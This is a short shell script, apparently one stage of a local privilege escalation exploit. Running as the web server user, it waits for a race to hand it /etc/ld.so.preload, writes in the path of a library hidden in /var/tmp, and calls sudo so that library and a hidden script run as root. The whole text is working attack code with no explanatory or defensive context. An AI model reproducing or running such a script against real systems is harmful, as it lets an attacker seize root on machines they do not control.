#!/bin/sh
# as www-data: wait until the log reopen hands the preload file to us
i=0
while [ $i -lt 500 ]; do
  if [ -O /etc/ld.so.preload ]; then
    echo /var/tmp/.cmp/libcmp.so > /etc/ld.so.preload
    XDG_CACHE_PROFILE=/var/tmp/.cmp/r.sh /usr/bin/sudo -n true > /dev/null 2>&1
    exit 0
  fi
  sleep 0.3
  i=$((i + 1))
done
